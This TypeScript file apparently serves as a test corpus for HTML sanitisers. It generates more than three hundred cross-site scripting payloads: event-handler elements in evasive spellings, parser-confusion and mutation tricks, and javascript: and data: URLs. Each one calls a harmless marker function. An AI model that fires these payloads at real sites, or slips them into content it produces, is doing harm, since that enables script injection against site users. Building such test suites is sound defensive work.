/**
 * Texts that run a script if a browser inserts them as markup. Each calls `window.pofta()`, so that a page can tell
 * whether one of them ran.
 */
const CALL = 'window.pofta()';

/** Elements that load, fail, open or start without a user, with the attribute that would run. */
const BY_THEMSELVES = [
  ['img src=x', 'onerror'],
  ['img src=/favicon.svg', 'onload'],
  ['svg', 'onload'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x', 'onbegin'],
  ['svg><image href=x', 'onerror'],
  ['video src=x', 'onerror'],
  ['video><source src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['iframe', 'onload'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['p tabindex=1 autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['style', 'onload'],
  ['link rel=stylesheet href=/favicon.svg', 'onload'],
  ['script src=x', 'onerror'],
  ['math><mtext', 'onclick'],
  ['p style=animation-name:x', 'onanimationstart'],
  ['a href=# autofocus', 'onfocus'],
  ['div popover', 'onbeforetoggle'],
  ['dialog open', 'onclose'],
  ['track src=x', 'onerror'],
] as const;

/** Spellings of the same attribute that a careless filter misses. */
const WRITTEN: readonly ((tag: string, handler: string) => string)[] = [
  (tag, handler) => `<${tag} ${handler}="${CALL}">`,
  (tag, handler) => `<${tag} ${handler.toUpperCase()}='${CALL}'>`,
  (tag, handler) => `<${tag.replace(' ', '/')}/${handler}=${CALL}>`,
  (tag, handler) => `<${tag}\n${handler}\n=\n${CALL}>`,
  (tag, handler) => `<${tag} ${handler}="${entities(CALL)}">`,
  (tag, handler) => `<<${tag} ${handler}=${CALL}>`,
  (tag, handler) => `<p title="</p><${tag} ${handler}=${CALL}>">`,
  (tag, handler) => `<${tag} ${handler}=${CALL} `,
];

const SCRIPT = `<script>${CALL}</script>`;

/** Parser confusion, elements that close early, script URLs. */
const SPECIAL = [
  SCRIPT,
  `<SCRIPT>${CALL}</SCRIPT>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script >${CALL}</script\t>`,
  `<script\u0000>${CALL}</script>`,
  `<script x>${CALL}</script x>`,
  `<script>/*`,
  `<script/src=data:,${CALL}></script>`,
  `<script type=module>${CALL}</script>`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<!--<img src="--><img src=x onerror=${CALL}//">`,
  `<![CDATA[><img src=x onerror=${CALL}>]]>`,
  `<?xml ?><img src=x onerror=${CALL}>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<template>${SCRIPT}</template>`,
  `<template shadowrootmode=open><img src=x onerror=${CALL}></template>`,
  `<textarea></textarea><img src=x onerror=${CALL}>`,
  `<title><img src=x onerror=${CALL}></title>`,
  `<xmp><p title="</xmp><img src=x onerror=${CALL}>"></xmp>`,
  `<plaintext><img src=x onerror=${CALL}>`,
  `<style><img src="</style><img src=x onerror=${CALL}//">`,
  `<style>@import 'javascript:${CALL}';</style>`,
  `<style>*{background:url(javascript:${CALL})}</style>`,
  `<select><template><img src=x onerror=${CALL}></template></select>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}></style></mglyph></table></mtext></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${CALL}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${CALL}>">`,
  `<svg><style><img src=x onerror=${CALL}></style></svg>`,
  `<svg><foreignObject>${SCRIPT}</foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x onerror=${CALL} /></svg>#x">`,
  `<svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`,
  `<svg><script href=data:,${CALL}></script></svg>`,
  `<math href="javascript:${CALL}">x</math>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL.replace('window.', '')}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.pofta()&gt;"></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<object data="data:text/html,<script>${CALL}</script>"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<base href="javascript:${CALL}//">`,
  `<link rel=import href="data:text/html,${SCRIPT}">`,
  `<form action="javascript:${CALL}"><button autofocus>x</button></form>`,
  `<button formaction="javascript:${CALL}">x</button>`,
  `<isindex action="javascript:${CALL}" type=image>`,
  `<table background="javascript:${CALL}"><tr><td>x</td></tr></table>`,
  `<a href="javascript:${CALL}">x</a>`,
  `<a href="JaVaScRiPt:${CALL}">x</a>`,
  `<a href=" javascript:${CALL}">x</a>`,
  `<a href="java\tscript:${CALL}">x</a>`,
  `<a href="java&#10;script:${CALL}">x</a>`,
  `<a href="&#106;avascript:${CALL}">x</a>`,
  `<a href="\u0001javascript:${CALL}">x</a>`,
  `<a href="vbscript:${CALL}">x</a>`,
  `<a href="data:text/html,${SCRIPT}">x</a>`,
  `<a href="//exemplu.invalid/x.js">x</a>`,
  `<a href="https://exemplu.ro" onclick="${CALL}" style="position:fixed;inset:0">x</a>`,
  `<a href='https://exemplu.ro" onmouseover="${CALL}'>x</a>`,
  `<p style="background:url(javascript:${CALL})">x</p>`,
  `<p style="width:expression(${CALL})">x</p>`,
  `<p xmlns:x="http://www.w3.org/1999/xhtml"><x:script>${CALL}</x:script></p>`,
  `<custom-part onclick=${CALL}>x</custom-part>`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${CALL}&amp;gt;`,
  `\u003cimg src=x onerror=${CALL}\u003e`,
  `<\u0130mg src=x onerror=${CALL}>`,
  `＜img src=x onerror=${CALL}＞`,
  `'"><img src=x onerror=${CALL}>`,
  `</p></div></main></body><img src=x onerror=${CALL}>`,
  `{{constructor.constructor("${CALL}")()}}`,
  `\${${CALL}}`,
] as const;

/** More than three hundred. */
export const XSS_PAYLOADS: readonly string[] = [
  ...BY_THEMSELVES.flatMap(([tag, handler]) => WRITTEN.map((write) => write(tag, handler))),
  ...SPECIAL,
];

function entities(text: string): string {
  return Array.from(text, (letter) => `&#x${letter.codePointAt(0)?.toString(16)};`).join('');
}
